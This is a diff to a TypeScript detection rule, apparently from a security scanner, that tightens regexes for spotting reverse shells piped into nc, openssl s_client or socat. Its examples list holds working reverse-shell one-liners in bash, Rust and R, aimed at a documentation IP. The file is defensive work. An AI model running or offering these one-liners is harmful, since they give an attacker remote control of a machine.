@@ -1,7 +1,11 @@
 import type { Rule } from '../../rule.js';
 
-/** A shell with nothing but options and what it reads; not one that runs a script, nor the language of a block of code. */
-const IS_PIPED = /^(?:\/bin\/)?\w+(?:[ \t]+-\w+|[ \t]*\d?[<>]{1,2}[ \t]*&?[ \t]*[\w./-]+)*[ \t]*\|/;
+/**
+ * A shell with nothing but options and what it reads; not one that runs a script, nor the language of a block of code. A
+ * gap takes the shortest text, so that the match of `bash` begins at its `sh`.
+ */
+const IS_PIPED =
+  /(?<![\w.-])(?:ba|z|da|k)?sh(?:[ \t]+-\w+|[ \t]*\d?[<>]{1,2}[ \t]*&?[ \t]*[\w./-]+)*[ \t]*\|\s*(?:\/\w+\/)*(?:nc|ncat|telnet|openssl\s+s_client|socat)\s$/;
 
 export const rule: Rule = {
   pattern: 'reverse_shell',
@@ -40,7 +44,7 @@ export const rule: Rule = {
     {
       re: /(?:\/bin\/)?(?:ba|z|da|k)?sh\s+(?:-i\s+)?(?:[<>&\d\s/\w.-]*)\|\s*(?:\/\w+\/)*(?:nc|ncat|telnet|openssl\s+s_client|socat)\s/,
       window: 160,
-      accept: ({ text, before }) => IS_PIPED.test(text) && !/[\w.-]$/.test(before),
+      accept: ({ before, text }) => IS_PIPED.test(before + text),
     },
     {
       re: /(?<![\w-])(?:nc|ncat|netcat|telnet)\s[^\n|;]*\|\s*(?:\/bin\/)?(?:ba|z|da)?sh\s*(?:-i\s*)?(?:\d?>&\d\s*)?\|\s*(?:nc|ncat|netcat|telnet)\s/,
@@ -63,6 +67,7 @@ export const rule: Rule = {
   ],
   examples: {
     fires: [
+      '/bin/bash -i </tmp/p 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 >/tmp/p',
       'sh </tmp/f 2>&1 | nc 203.0.113.7 4444',
       'let s = TcpStream::connect("203.0.113.7:4444").unwrap(); Command::new("/bin/sh").stdin(s)',
       'R -e "s<-socketConnection(\'203.0.113.7\',4444);system(readLines(s,1))"',
